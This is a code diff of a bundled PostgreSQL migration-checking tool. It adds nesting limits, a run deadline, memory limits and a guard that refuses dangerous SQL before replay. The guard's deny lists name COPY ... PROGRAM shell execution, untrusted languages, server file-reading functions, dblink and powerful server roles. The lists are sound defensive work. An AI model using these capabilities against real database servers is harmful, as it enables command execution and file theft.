   try {
-    result2 = parseSync(text);
+    result2 = parseSync(text2);
   } catch (error) {
-    return { ok: false, error: toParseFailure(error, text) };
+    return { ok: false, error: toParseFailure(error, text2) };
   }
   const raw = result2.stmts ?? [];
   if (raw.length === 0) return { ok: true, statements: [] };
-  const tokens = scanSync2(text).tokens.filter((t) => !COMMENT_TOKENS.has(t.tokenName));
+  const tokens = scanned ?? [];
   const statements = [];
   let cursor = 0;
   for (const stmt of raw) {
     const start = stmt.stmt_location ?? 0;
     const end2 = stmt.stmt_len ? start + stmt.stmt_len : byteLength2;
+    if (treeDepth(stmt.stmt) > MAX_NESTING) {
+      const first2 = tokens.find((t) => t.start >= start);
+      return { ok: false, error: { message: `nesting deeper than ${MAX_NESTING} levels, which sql-preflight does not analyse`, offset: first2?.start ?? start } };
+    }
     while (cursor < tokens.length && tokens[cursor].start < start) cursor++;
     const first = cursor;
     while (cursor < tokens.length && tokens[cursor].end <= end2) cursor++;
@@ -5159,31 +5700,88 @@ function parseSql(text, byteLength2 = Buffer.byteLength(text, "utf8")) {
   }
   return { ok: true, statements };
 }
-function toParseFailure(error, text) {
+function tooDeep(tokens) {
+  const fresh = (closer) => ({ closer, base: 0, depth: 0, deepest: 0 });
+  const levels = [fresh("")];
+  let outer = 0;
+  for (const token of tokens) {
+    const word2 = token.keywordKind === 0 ? token.text : token.text.toUpperCase();
+    let level = levels.at(-1);
+    const closer = OPENERS.get(word2);
+    if (closer) {
+      outer += level.depth + 1;
+      level = fresh(closer);
+      levels.push(level);
+    } else if (word2 === level.closer) {
+      levels.pop();
+      const inner = level;
+      level = levels.at(-1);
+      outer -= level.depth + 1;
+      level.depth += 1 + inner.deepest;
+    } else if (word2 === ";" && levels.length === 1) {
+      levels[0] = fresh("");
+      continue;
+    } else if (SEPARATORS.has(word2)) {
+      level.depth = level.base;
+    } else if (!LEAVES.has(token.tokenName) && word2 !== ".") {
+      if (NESTING_CLAUSES.has(word2)) level.base++;
+      level.depth++;
+    }
+    level.deepest = Math.max(level.deepest, level.depth);
+    if (outer + level.depth > MAX_NESTING) return token;
+  }
+  return void 0;
+}
+function treeDepth(root) {
+  let deepest = 0;
+  const pending = [[root, 0]];
+  while (pending.length > 0) {
+    const [value, above] = pending.pop();
+    if (!value || typeof value !== "object") continue;
+    const key = Array.isArray(value) ? void 0 : Object.keys(value)[0];
+    const depth = key !== void 0 && /^[A-Z]/.test(key) ? above + 1 : above;
+    deepest = Math.max(deepest, depth);
+    for (const child of Array.isArray(value) ? value : Object.values(value)) pending.push([child, depth]);
+  }
+  return deepest;
+}
+function toParseFailure(error, text2) {
   if (hasSqlDetails(error) && error.sqlDetails) {
     const cursor = error.sqlDetails.cursorPosition;
     return {
-      message: error.sqlDetails.message,
-      offset: cursor >= 0 ? codePointToByteOffset(text, cursor) : void 0
+      message: shortenNear(error.sqlDetails.message),
+      offset: cursor >= 0 ? codePointToByteOffset(text2, cursor) : void 0
     };
   }
   return { message: error instanceof Error ? error.message : String(error), offset: void 0 };
 }
-function codePointToByteOffset(text, codePoint) {
+function codePointToByteOffset(text2, codePoint) {
   let bytes = 0;
   let seen = 0;
-  for (const char of text) {
+  for (const char of text2) {
     if (seen === codePoint) return bytes;
     bytes += Buffer.byteLength(char, "utf8");
     seen++;
   }
   return bytes;
 }
-var loaded, COMMENT_TOKENS;
+function shortenNear(message) {
+  return message.replace(/(at or near ")([\s\S]*)"$/, (_, lead, near) => {
+    const firstLine = near.split(/\r?\n/)[0];
+    const chars = [...firstLine.replace(/[\x00-\x1f\x7f]/g, "\uFFFD")];
+    return `${lead}${chars.slice(0, 40).join("")}${firstLine === near && chars.length <= 40 ? "" : "\u2026"}"`;
+  });
+}
+var loaded, COMMENT_TOKENS, MAX_NESTING, OPENERS, SEPARATORS, NESTING_CLAUSES, LEAVES;
 var init_parse = __esm({
   "src/core/parse.ts"() {
     "use strict";
     COMMENT_TOKENS = /* @__PURE__ */ new Set(["SQL_COMMENT", "C_COMMENT"]);
+    MAX_NESTING = 1e3;
+    OPENERS = /* @__PURE__ */ new Map([["(", ")"], ["[", "]"], ["CASE", "END"]]);
+    SEPARATORS = /* @__PURE__ */ new Set([",", ";", "AND", "OR", "WHEN", "THEN", "ELSE"]);
+    NESTING_CLAUSES = /* @__PURE__ */ new Set(["UNION", "INTERSECT", "EXCEPT", "JOIN"]);
+    LEAVES = /* @__PURE__ */ new Set(["IDENT", "UIDENT", "ICONST", "FCONST", "SCONST", "USCONST", "BCONST", "XCONST", "PARAM"]);
   }
 });
 
@@ -5192,13 +5790,13 @@ function isLeadByte(byte) {
   return (byte & 192) !== 128;
 }
 function countCodePoints(bytes, start, end2) {
-  let count = 0;
-  for (let i = start; i < end2; i++) if (isLeadByte(bytes[i])) count++;
-  return count;
+  let count2 = 0;
+  for (let i = start; i < end2; i++) if (isLeadByte(bytes[i])) count2++;
+  return count2;
 }
-function maskRanges(text, ranges) {
-  if (ranges.length === 0) return text;
-  const bytes = Buffer.from(text, "utf8");
+function maskRanges(text2, ranges) {
+  if (ranges.length === 0) return text2;
+  const bytes = Buffer.from(text2, "utf8");
   for (const { start, end: end2 } of ranges) {
     for (let i = start; i < end2 && i < bytes.length; i++) {
       if (bytes[i] !== 10 && bytes[i] !== 13) bytes[i] = 32;
@@ -5215,9 +5813,9 @@ var init_source = __esm({
       bytes;
       lineStarts = [0];
       bomLength;
-      constructor(text) {
-        this.bytes = Buffer.from(text, "utf8");
-        this.bomLength = text.charCodeAt(0) === BOM ? 3 : 0;
+      constructor(text2) {
+        this.bytes = Buffer.from(text2, "utf8");
+        this.bomLength = text2.charCodeAt(0) === BOM ? 3 : 0;
         for (let i = 0; i < this.bytes.length; i++) {
           if (this.bytes[i] === 10) this.lineStarts.push(i + 1);
         }
@@ -5263,8 +5861,8 @@ var init_source = __esm({
 function findIgnores(file, executedText) {
   const directives = [];
   const bytes = Buffer.from(executedText, "utf8");
-  const text = bytes.toString("latin1");
-  for (const match of text.matchAll(DIRECTIVE)) {
+  const text2 = bytes.toString("latin1");
+  for (const match of text2.matchAll(DIRECTIVE)) {
     const start = match.index;
     if (!isInComment(file, start)) continue;
     const list = Buffer.from(match[2], "latin1").toString("utf8").split("--")[0];
@@ -5437,17 +6035,17 @@ function appliesTo(rule, version) {
   const { since, until } = rule.meta.postgres ?? {};
   return (since === void 0 || version >= since) && (until === void 0 || version <= until);
 }
-function toFinding(ruleId, severity, path2, lines, range2, descriptor, statement, rule) {
+function toFinding(ruleId, severity, path3, lines, range2, descriptor, statement, rule) {
   const finding = {
     ruleId,
     severity,
-    file: path2,
+    file: path3,
     ...lines.span(range2),
     message: descriptor.message,
     help: descriptor.help ?? rule?.meta.safeAlternative,
     docsUrl: rule?.meta.docsUrl ?? "",
     source: "static",
-    fingerprint: fingerprint(ruleId, path2, statement?.text ?? lines.slice(range2), descriptor.message)
+    fingerprint: fingerprint(ruleId, path3, statement?.text ?? lines.slice(range2), descriptor.message)
   };
   if (statement) finding.statement = statement.index;
   if (descriptor.fix) {
@@ -5459,11 +6057,11 @@ function toFinding(ruleId, severity, path2, lines, range2, descriptor, statement
   if (descriptor.evidence) finding.evidence = descriptor.evidence;
   return finding;
 }
-function fileFinding(rule, path2, message, severity = rule.meta.severity) {
+function fileFinding(rule, path3, message, severity = rule.meta.severity) {
   return {
     ruleId: rule.meta.id,
     severity,
-    file: path2,
+    file: path3,
     line: 1,
     column: 1,
     endLine: 1,
@@ -5472,12 +6070,12 @@ function fileFinding(rule, path2, message, severity = rule.meta.severity) {
     help: rule.meta.safeAlternative,
     docsUrl: rule.meta.docsUrl,
     source: "static",
-    fingerprint: fingerprint(rule.meta.id, path2, "", message)
+    fingerprint: fingerprint(rule.meta.id, path3, "", message)
   };
 }
-function fingerprint(ruleId, path2, statementText, message) {
+function fingerprint(ruleId, path3, statementText, message) {
   const normalized = statementText.replace(/\s+/g, " ").trim();
-  return createHash("sha256").update(`${ruleId}\0${path2}\0${normalized}\0${message}`).digest("hex").slice(0, 32);
+  return createHash("sha256").update(`${ruleId}\0${path3}\0${normalized}\0${message}`).digest("hex").slice(0, 32);
 }
 function sortFindings(findings) {
   return [...findings].sort(
@@ -5505,8 +6103,8 @@ var init_lint = __esm({
 });
 
 // src/db/provider.ts
-function parseInt8(text) {
-  const value = BigInt(text);
+function parseInt8(text2) {
+  const value = BigInt(text2);
   return value >= Number.MIN_SAFE_INTEGER && value <= Number.MAX_SAFE_INTEGER ? Number(value) : value;
 }
 function describe2(error) {
@@ -5539,8 +6137,8 @@ function redactUrl(url) {
   }
   return parsed.toString();
 }
-function hideSecrets(text, url) {
-  let result2 = text;
+function hideSecrets(text2, url) {
+  let result2 = text2;
   for (const secret of urlSecrets(url)) result2 = result2.split(secret).join(MASK);
   return result2;
 }
@@ -5653,19 +6251,28 @@ var init_server = __esm({
         if (this.#disposed) throw new ProviderError("the database provider has been disposed");
         const client = await this.#connect(this.#urlOf(this.database));
         this.#sessions.add(client);
-        const use = () => {
+        let broken = false;
+        client.on("error", () => {
+          broken = true;
+        });
+        const use = async (work) => {
           if (!this.#sessions.has(client)) throw new ProviderError("the session is closed");
+          try {
+            return await work();
+          } catch (error) {
+            const severity = error.severity;
+            if (broken || severity === "FATAL" || severity === "PANIC") throw this.#lost(error);
+            throw error;
+          }
         };
         return {
-          query: async (sql, params = []) => {
-            use();
+          query: (sql, params = []) => use(async () => {
             const config = { text: sql, values: params, queryMode: "extended" };
             return (await client.query(config)).rows;
-          },
-          exec: async (sql) => {
-            use();
+          }),
+          exec: (sql) => use(async () => {
             await client.query(sql);
-          },
+          }),
           close: async () => {
             if (this.#sessions.delete(client)) await end(client);
           }
@@ -5683,6 +6290,19 @@ var init_server = __esm({
         await this.#release();
         await this.#admin(this.#dropSql(this.database), this.#failedTo("drop the database"));
         await this.#admin(`CREATE DATABASE ${this.database} TEMPLATE ${this.#template}`, this.#failedTo("restore the template"));
+      }
+      async interrupt() {
+        const pids = [...this.#sessions].map((client) => client.processID).filter((pid) => pid !== null);
+        if (pids.length === 0) return;
+        try {
+          const client = await this.#connect(this.#options.adminUrl);
+          try {
+            await client.query("SELECT pg_cancel_backend(pid) FROM unnest($1::int[]) AS pid", [pids]);
+          } finally {
+            await end(client);
+          }
+        } catch {
+        }
       }
       /** Never rejects: cleanup runs in `finally` blocks. What could not be removed is reported as a warning. */
       dispose() {
@@ -5755,6 +6375,14 @@ var init_server = __esm({
           await end(client);
         }
       }
+      /** The error for a session whose connection ended under it (a stopped server, a terminated backend). */
+      #lost(error) {
+        const url = new URL(this.#options.adminUrl);
+        const where = this.kind === "docker" ? "the PostgreSQL container" : `the server at ${url.host}`;
+        return new ProviderError(hideSecrets(`the database was lost (the connection to ${where} ended: ${describe2(error)})`, this.#options.adminUrl), {
+          cause: error
+        });
+      }
       #failedTo(action) {
         return (error) => `could not ${action} on ${redactUrl(this.#options.adminUrl)}: ${describe2(error)}`;
       }
@@ -5820,7 +6448,7 @@ async function findDockerEngine() {
     join(homedir(), ".docker", "desktop", "docker.sock"),
     ...process.getuid ? [`/run/user/${process.getuid()}/docker.sock`] : []
   ]);
-  const sockets = [...candidates].filter((path2) => existsSync(path2));
+  const sockets = [...candidates].filter((path3) => existsSync(path3));
   const answers = await Promise.all(sockets.map((socketPath) => ping({ socketPath })));
   const found = sockets.find((_, index) => answers[index]);
   return { answered: found !== void 0, address: `unix://${found ?? sockets[0] ?? "/var/run/docker.sock"}` };
@@ -5890,7 +6518,8 @@ var init_docker = __esm({
 import { Worker } from "node:worker_threads";
 async function startPglite(statementTimeoutMs) {
   const worker = new Worker(new URL(`data:text/javascript,${encodeURIComponent(WORKER_SOURCE)}`), {
-    workerData: { pglite: import.meta.resolve("@electric-sql/pglite") }
+    workerData: { pglite: import.meta.resolve("@electric-sql/pglite") },
+    resourceLimits: { maxOldGenerationSizeMb: HEAP_LIMIT_MB }
   });
   const provider = new PgliteProvider(worker, statementTimeoutMs);
   let version;
@@ -5903,7 +6532,15 @@ async function startPglite(statementTimeoutMs) {
   provider.serverVersion = { major: Math.floor(version.num / 1e4), full: version.full };
   return provider;
 }
-var WORKER_SOURCE, STARTUP_TIMEOUT_MS, PgliteProvider;
+function workerFailure(error) {
+  if (error.code === "ERR_WORKER_OUT_OF_MEMORY") {
+    return new ProviderError(
+      `PGlite ran out of memory (its worker reached the ${HEAP_LIMIT_MB} MB heap limit, as a very large query result does); run the check on a real PostgreSQL server with --db docker or --db url`
+    );
+  }
+  return new ProviderError(`PGlite failed: ${describe2(error)}`);
+}
+var WORKER_SOURCE, STARTUP_TIMEOUT_MS, HEAP_LIMIT_MB, PgliteProvider;
 var init_pglite = __esm({
   "src/db/pglite.ts"() {
     "use strict";
@@ -5929,6 +6566,7 @@ parentPort.on('message', async ({ id, op, sql, params }) => {
 });
 `;
     STARTUP_TIMEOUT_MS = 6e4;
+    HEAP_LIMIT_MB = 512;
     PgliteProvider = class {
       kind = "pglite";
       concurrent = false;
@@ -5946,7 +6584,7 @@ parentPort.on('message', async ({ id, op, sql, params }) => {
         this.#worker = worker;
         this.#statementTimeoutMs = statementTimeoutMs;
         worker.on("message", (reply) => this.#settle(reply));
-        worker.on("error", (error) => this.#fail(new ProviderError(`PGlite failed: ${describe2(error)}`)));
+        worker.on("error", (error) => this.#fail(workerFailure(error)));
         worker.on("exit", () => this.#fail(new ProviderError("PGlite has stopped")));
         this.ready = this.#track(
           0,
@@ -5988,6 +6626,10 @@ parentPort.on('message', async ({ id, op, sql, params }) => {
           await this.#worker.terminate();
         })();
         return this.#disposed;
+      }
+      async interrupt(error) {
+        this.#fail(error);
+        await this.#worker.terminate();
       }
       #call(op, sql, params) {
         if (this.#failure) return Promise.reject(this.#failure);
@@ -6046,6 +6688,8 @@ parentPort.on('message', async ({ id, op, sql, params }) => {
 
 // src/db/index.ts
 async function openProvider(options) {
+  const deadline = options.deadline;
+  if (deadline && Date.now() >= deadline.atMs) throw deadlineError(deadline);
   const statementTimeoutMs = options.statementTimeoutMs ?? DEFAULT_STATEMENT_TIMEOUT_MS;
   const image = options.postgresImage ?? `postgres:${options.postgresVersion}`;
   const pglite = async (why) => {
@@ -6091,7 +6735,59 @@ async function openProvider(options) {
       break;
     }
   }
+  if (deadline) enforce(deadline, started.provider);
   return { provider: guard(started.provider), reason: started.reason };
+}
+function deadlineError(deadline) {
+  return new ProviderError(`the run deadline of ${deadline.seconds} s passed`);
+}
+function enforce(deadline, provider) {
+  const error = deadlineError(deadline);
+  let passed = false;
+  let timer;
+  let reach;
+  const reached = new Promise((_, reject) => {
+    reach = () => reject(error);
+  });
+  reached.catch(() => {
+  });
+  const arm = () => {
+    const left = deadline.atMs - Date.now();
+    if (left > 0) {
+      timer = setTimeout(arm, Math.min(left, MAX_TIMER_MS)).unref();
+      return;
+    }
+    passed = true;
+    reach();
+    void provider.interrupt(error);
+  };
+  arm();
+  const bounded = async (work) => {
+    if (passed) throw error;
+    try {
+      return await Promise.race([work(), reached]);
+    } catch (failure2) {
+      throw passed ? error : failure2;
+    }
+  };
+  const open = provider.open.bind(provider);
+  provider.open = () => bounded(async () => {
+    const session = await open();
+    return {
+      query: (sql, params) => bounded(() => session.query(sql, params)),
+      exec: (sql) => bounded(() => session.exec(sql)),
+      close: () => session.close()
+    };
+  });
+  for (const method of ["saveTemplate", "restoreTemplate"]) {
+    const call = provider[method]?.bind(provider);
+    if (call) provider[method] = () => bounded(call);
+  }
+  const dispose = provider.dispose.bind(provider);
+  provider.dispose = () => {
+    clearTimeout(timer);
+    return dispose();
+  };
 }
 function guard(provider) {
   const onSignal = (signal) => {
@@ -6113,7 +6809,7 @@ function guard(provider) {
   };
   return provider;
 }
-var DEFAULT_STATEMENT_TIMEOUT_MS;
+var DEFAULT_STATEMENT_TIMEOUT_MS, MAX_TIMER_MS;
 var init_db = __esm({
   "src/db/index.ts"() {
     "use strict";
@@ -6125,6 +6821,212 @@ var init_db = __esm({
     init_provider();
     init_redact();
     DEFAULT_STATEMENT_TIMEOUT_MS = 3e4;
+    MAX_TIMER_MS = 2 ** 31 - 1;
+  }
+});
+
+// src/replay/guard.ts
+import { parsePlPgSQLSync } from "libpg-query";
+function unsafeStatement(statement) {
+  const found = refusalOf(statement.type, statement.node, statement.text, 0);
+  if (!found) return void 0;
+  return { reason: found.reason, offset: found.location ?? statement.range.start };
+}
+function refusalMessage(refusal) {
+  return `sql-preflight did not run this statement: ${refusal.reason}; nothing that reaches outside its throwaway database is run`;
+}
+function untrustedLanguage(name) {
+  return /^pl.*u$/.test(name) || name === "plr" || name === "plsh" || name === "c";
+}
+function withoutSandbox(language) {
+  return `${language} is a language without a sandbox: its code can do anything the server's operating-system user can`;
+}
+function refusalOf(type, node, text2, depth) {
+  return statementRefusal(type, node, text2, depth) ?? callRefusal(node);
+}
+function statementRefusal(type, node, text2, depth) {
+  if (DATABASE_STATEMENTS.has(type) || onDatabase(type, node)) {
+    return { reason: "it acts on a database of the server, and sql-preflight's own throwaway database is the only one it touches" };
+  }
+  if (TABLESPACE_STATEMENTS.has(type)) return { reason: "tablespaces are directories on the database server's file system, shared by all its databases" };
+  if (FOREIGN_STATEMENTS.has(type)) return { reason: "foreign servers, user mappings and subscriptions connect to other databases" };
+  switch (type) {
+    case "AlterSystemStmt":
+      return { reason: "ALTER SYSTEM changes the configuration of the whole server" };
+    case "LoadStmt":
+      return { reason: "LOAD loads a shared library into the server" };
+    case "CopyStmt":
+      if (node.is_program) return { reason: "COPY ... PROGRAM runs a shell command on the database server" };
+      if (node.filename !== void 0) return { reason: "COPY with a file name reads or writes a file on the database server's file system" };
+      return void 0;
+    case "CreateExtensionStmt": {
+      const name = String(node.extname ?? "");
+      if (untrustedLanguage(name)) return { reason: withoutSandbox(name) };
+      return OUTREACHING_EXTENSIONS.has(name) || name.endsWith("_fdw") ? { reason: `the ${name} extension reaches outside the database: other servers, the file system or the network` } : void 0;
+    }
+    case "CreatePLangStmt": {
+      const name = String(node.plname ?? "");
+      return untrustedLanguage(name) || node.plhandler !== void 0 && node.pltrusted !== true ? { reason: withoutSandbox(name) } : void 0;
+    }
+    case "CreateFunctionStmt":
+    case "DoStmt":
+      return bodyRefusal(type, node, text2, depth);
+    case "CreateRoleStmt":
+    case "AlterRoleStmt": {
+      const options = defElems(node.options);
+      const power = options.find((option) => SERVER_WIDE_ROLE_OPTIONS.has(option.defname) && option.arg?.Boolean?.boolval === true);
+      if (power) return { reason: `a role with ${power.defname.toUpperCase()} has powers over the whole server, and roles outlive the throwaway database`, location: power.location };
+      const password = type === "AlterRoleStmt" ? options.find((option) => option.defname === "password") : void 0;
+      return password ? { reason: "it changes an existing role's password, which belongs to the server, not to the throwaway database", location: password.location } : void 0;
+    }
+    case "GrantRoleStmt": {
+      const roles = (node.granted_roles ?? []).map((role) => role.AccessPriv?.priv_name ?? "");
+      const power = roles.find((role) => SERVER_WIDE_ROLES.has(role));
+      return node.is_grant && power ? { reason: `members of ${power} reach the server's files, programs or sessions` } : void 0;
+    }
+    case "VariableSetStmt":
+      return node.kind !== "VAR_RESET" && node.kind !== "VAR_RESET_ALL" && (node.name === "role" || node.name === "session_authorization") ? { reason: "it changes the role the statements run as" } : void 0;
+    default:
+      return void 0;
+  }
+}
+function onDatabase(type, node) {
+  switch (type) {
+    case "GrantStmt":
+      return node.objtype === "OBJECT_DATABASE" || node.objtype === "OBJECT_TABLESPACE" || node.objtype === "OBJECT_PARAMETER_ACL";
+    case "CommentStmt":
+    case "SecLabelStmt":
+      return node.objtype === "OBJECT_DATABASE" || node.objtype === "OBJECT_TABLESPACE";
+    case "AlterOwnerStmt":
+      return node.objectType === "OBJECT_DATABASE" || node.objectType === "OBJECT_TABLESPACE";
+    case "RenameStmt":
+      return node.renameType === "OBJECT_DATABASE" || node.renameType === "OBJECT_TABLESPACE";
+    default:
+      return false;
+  }
+}
+function callRefusal(node) {
+  let found;
+  walk(node, (key, value) => {
+    if (found || key !== "FuncCall") return;
+    const call = value;
+    const name = (constantText(call.funcname?.at(-1)) ?? "").toLowerCase();
+    if (SIGNALS.has(name) && signalsItself(call.args?.[0])) return;
+    const reason = OUTREACHING_FUNCTIONS.get(name) ?? (name.startsWith("dblink") || name.startsWith("postgres_fdw") ? "connects to another database" : void 0) ?? (name === "set_config" && ["role", "session_authorization"].includes(constantText(call.args?.[0]) ?? "") ? "changes the role the statements run as" : void 0);
+    if (reason) found = { reason: `${name}() ${reason}`, ...call.location !== void 0 && call.location >= 0 ? { location: call.location } : {} };
+  });
+  return found;
+}
+function signalsItself(arg) {
+  const call = arg?.FuncCall;
+  return call !== void 0 && (call.args ?? []).length === 0 && constantText(call.funcname?.at(-1))?.toLowerCase() === "pg_backend_pid";
+}
+function walk(value, visit) {
+  if (Array.isArray(value)) {
+    for (const item of value) walk(item, visit);
+  } else if (value && typeof value === "object") {
+    for (const [key, child] of Object.entries(value)) {
+      visit(key, child);
+      walk(child, visit);
+    }
+  }
+}
+function bodyRefusal(type, node, text2, depth) {
+  const options = defElems(type === "DoStmt" ? node.args : node.options);
+  const language = (constantText(options.find((option) => option.defname === "language")?.arg) ?? "plpgsql").toLowerCase();
+  if (untrustedLanguage(language)) {
+    return { reason: language === "c" ? "a C function loads a shared library into the server" : withoutSandbox(language) };
+  }
+  const as = options.find((option) => option.defname === "as")?.arg;
+  const body = constantText(as) ?? constantText(as?.List?.items?.[0]);
+  if (body === void 0) return void 0;
+  const nested = language === "sql" ? [body] : language === "plpgsql" ? plpgsqlStatements(text2) : [];
+  for (const sql of nested) {
+    const found = nestedRefusal(sql, depth + 1);
+    if (found) return { reason: `its body runs a statement that would be refused: ${found.reason}` };
+  }
+  return void 0;
+}
+function nestedRefusal(sql, depth) {
+  if (depth > MAX_DEPTH) return { reason: "function bodies are nested too deeply to be read" };
+  const parsed = parseSql(sql);
+  if (!parsed.ok) return void 0;
+  const bytes = Buffer.from(sql, "utf8");
+  for (const statement of parsed.statements) {
+    const found = refusalOf(statement.type, statement.node, bytes.toString("utf8", statement.range.start, statement.range.end), depth);
+    if (found) return found;
+  }
+  return void 0;
+}
+function plpgsqlStatements(text2) {
+  let tree;
+  try {
+    tree = parsePlPgSQLSync(text2);
+  } catch {
+    return [];
+  }
+  const statements = [];
+  walk(tree, (key, value) => {
+    if (key !== "PLpgSQL_expr") return;
+    const expr = value;
+    if (expr.query) statements.push(expr.parseMode === 0 ? expr.query : `SELECT ${expr.query}`);
+  });
+  return statements;
+}
+function defElems(list) {
+  return (list ?? []).map((item) => item.DefElem).filter((item) => item !== void 0);
+}
+var MAX_DEPTH, DATABASE_STATEMENTS, TABLESPACE_STATEMENTS, FOREIGN_STATEMENTS, OUTREACHING_EXTENSIONS, SERVER_WIDE_ROLE_OPTIONS, SERVER_WIDE_ROLES, OUTREACHING_FUNCTIONS, SIGNALS;
+var init_guard = __esm({
+  "src/replay/guard.ts"() {
+    "use strict";
+    init_parse();
+    init_statements();
+    MAX_DEPTH = 8;
+    DATABASE_STATEMENTS = /* @__PURE__ */ new Set(["CreatedbStmt", "DropdbStmt", "AlterDatabaseStmt", "AlterDatabaseSetStmt", "AlterDatabaseRefreshCollStmt"]);
+    TABLESPACE_STATEMENTS = /* @__PURE__ */ new Set(["CreateTableSpaceStmt", "DropTableSpaceStmt", "AlterTableSpaceOptionsStmt"]);
+    FOREIGN_STATEMENTS = /* @__PURE__ */ new Set([
+      "CreateFdwStmt",
+      "AlterFdwStmt",
+      "CreateForeignServerStmt",
+      "AlterForeignServerStmt",
+      "CreateUserMappingStmt",
+      "AlterUserMappingStmt",
+      "ImportForeignSchemaStmt",
+      "CreateSubscriptionStmt",
+      "AlterSubscriptionStmt"
+    ]);
+    OUTREACHING_EXTENSIONS = /* @__PURE__ */ new Set(["adminpack", "aws_lambda", "aws_s3", "dblink", "http", "pg_cron", "pg_net", "pg_walinspect"]);
+    SERVER_WIDE_ROLE_OPTIONS = /* @__PURE__ */ new Set(["superuser", "replication", "bypassrls"]);
+    SERVER_WIDE_ROLES = /* @__PURE__ */ new Set(["pg_execute_server_program", "pg_read_server_files", "pg_write_server_files", "pg_signal_backend", "pg_create_subscription"]);
+    OUTREACHING_FUNCTIONS = new Map([
+      ...["pg_read_file", "pg_read_binary_file", "pg_stat_file", "lo_import", "lo_export", "pg_file_write", "pg_file_rename", "pg_file_unlink", "pg_file_sync"].map(
+        (name) => [name, "reads or writes the database server's files"]
+      ),
+      ...["pg_ls_dir", "pg_ls_logdir", "pg_ls_waldir", "pg_ls_tmpdir", "pg_ls_archive_statusdir", "pg_ls_logicalsnapdir", "pg_ls_logicalmapdir", "pg_ls_replslotdir", "pg_logdir_ls"].map(
+        (name) => [name, "lists the database server's directories"]
+      ),
+      ...["pg_terminate_backend", "pg_cancel_backend"].map((name) => [name, "acts on other sessions of the server"]),
+      ...[
+        "pg_reload_conf",
+        "pg_rotate_logfile",
+        "pg_promote",
+        "pg_switch_wal",
+        "pg_create_restore_point",
+        "pg_backup_start",
+        "pg_backup_stop",
+        "pg_start_backup",
+        "pg_stop_backup",
+        "pg_create_physical_replication_slot",
+        "pg_create_logical_replication_slot",
+        "pg_copy_physical_replication_slot",
+        "pg_copy_logical_replication_slot",
+        "pg_drop_replication_slot",
+        "pg_replication_origin_create",
+        "pg_replication_origin_drop"
+      ].map((name) => [name, "acts on the whole database server"])
+    ]);
+    SIGNALS = /* @__PURE__ */ new Set(["pg_terminate_backend", "pg_cancel_backend"]);
   }
 });
 
@@ -6136,8 +7038,8 @@ var init_script = __esm({
     Script = class {
       #pieces = [];
       /** `origin`: the byte offset of the text's first byte in the original file; omit it for added text. */
-      add(text, origin) {
-        if (text !== "") this.#pieces.push({ text, origin });
+      add(text2, origin) {
+        if (text2 !== "") this.#pieces.push({ text: text2, origin });
         return this;
       }
       get sql() {
@@ -6182,7 +7084,7 @@ async function applySetup(session, files) {
     failures.push(
       ...await runStatements(session, prepared, {
         keepGoing: true,
-        tolerate: (statement, failure) => statement.type === "CreateRoleStmt" && failure.code === DUPLICATE_OBJECT
+        tolerate: (statement, failure2) => statement.type === "CreateRoleStmt" && failure2.code === DUPLICATE_OBJECT
       })
     );
     await releaseMarker(session, prepared);
@@ -6192,22 +7094,44 @@ async function applySetup(session, files) {
 async function prepare(file) {
   await loadParser();
   const skipped = file.text.charCodeAt(0) === 65279 ? [{ start: 0, end: 3 }, ...file.skipped] : file.skipped;
-  const text = maskRanges(file.text, skipped);
-  const executed = Buffer.from(text, "utf8");
-  const parsed = parseSql(text, executed.length);
-  const statements = parsed.ok ? analyzeStatements(parsed.statements, file.transaction, new LineIndex(text)) : void 0;
+  const text2 = maskRanges(file.text, skipped);
+  const executed = Buffer.from(text2, "utf8");
+  const parsed = parseSql(text2, executed.length);
+  const statements = parsed.ok ? analyzeStatements(parsed.statements, file.transaction, new LineIndex(text2)) : void 0;
   return {
     path: file.path,
     executed,
     statements,
     parseErrorOffset: parsed.ok ? void 0 : parsed.error.offset,
     opensTransaction: (statements ?? []).some((s) => s.type === "TransactionStmt" && OPENING.has(s.node.kind)),
-    markers: { next: 1, held: void 0 }
+    markers: { next: 1, held: void 0 },
+    refusals: /* @__PURE__ */ new Map()
   };
+}
+function refusalOf2(file, statement) {
+  if (!file.refusals.has(statement.range.start)) file.refusals.set(statement.range.start, unsafeStatement(statement));
+  return file.refusals.get(statement.range.start);
+}
+function refusedIn(file, statements) {
+  for (const statement of statements) {
+    const refusal = refusalOf2(file, statement);
+    if (!refusal) continue;
+    const failure2 = {
+      file: file.path,
+      message: refusalMessage(refusal),
+      offset: refusal.offset,
+      ...file.statements ? { statement: statement.index } : {},
+      refused: true
+    };
+    return { statement, failure: failure2 };
+  }
+  return void 0;
 }
 async function runWhole(session, file, wrap) {
   const statements = file.statements ?? [];
   if (file.statements && statements.length === 0) return [];
+  const refused = refusedIn(file, statements);
+  if (refused) return [refused.failure];
   const outcome = await runUnit(session, file, { from: 0, to: file.executed.length, statements, wrap });
   if (outcome.ok) {
     if (!wrap) await closeDanglingTransaction(session, file);
@@ -6230,9 +7154,9 @@ async function runStatements(session, file, options) {
 }
 async function runBatches(session, file, statements, options) {
   const failures = [];
-  const record = (statement, failure) => {
-    if (statement && options.tolerate?.(statement, failure)) return true;
-    failures.push(failure);
+  const record = (statement, failure2) => {
+    if (statement && options.tolerate?.(statement, failure2)) return true;
+    failures.push(failure2);
     return options.keepGoing === true;
   };
   const runAlone = async (batch) => {
@@ -6242,7 +7166,12 @@ async function runBatches(session, file, statements, options) {
     }
     return true;
   };
-  for (const batch of batchesOf(statements)) {
+  for (const batch of batchesOf(statements, (statement) => refusalOf2(file, statement) !== void 0)) {
+    const refused = refusedIn(file, batch);
+    if (refused) {
+      if (!record(refused.statement, refused.failure)) return failures;
+      continue;
+    }
     const outcome = await runUnit(session, file, unitOf(batch));
     if (outcome.ok) continue;
     const inBlock = batch[0].transaction !== void 0;
@@ -6261,15 +7190,16 @@ async function runBatches(session, file, statements, options) {
   }
   return failures;
 }
-function batchesOf(statements) {
+function batchesOf(statements, refused) {
   const batches = [];
   let open;
+  const shares = (statement) => shareable(statement) && !refused(statement);
   for (const statement of statements) {
     const last = open?.at(-1);
-    const joins = last !== void 0 && (statement.transaction !== void 0 ? statement.transaction === last.transaction : last.transaction === void 0 && shareable(statement));
+    const joins = last !== void 0 && (statement.transaction !== void 0 ? statement.transaction === last.transaction : last.transaction === void 0 && shares(statement));
     if (joins) open.push(statement);
     else batches.push(open = [statement]);
-    if (statement.transaction === void 0 && !shareable(statement)) open = void 0;
+    if (statement.transaction === void 0 && !shares(statement)) open = void 0;
   }
   return batches;
 }
@@ -6325,51 +7255,51 @@ async function releaseMarker(session, file) {
     throw infrastructureFailure(file.path, error);
   }
 }
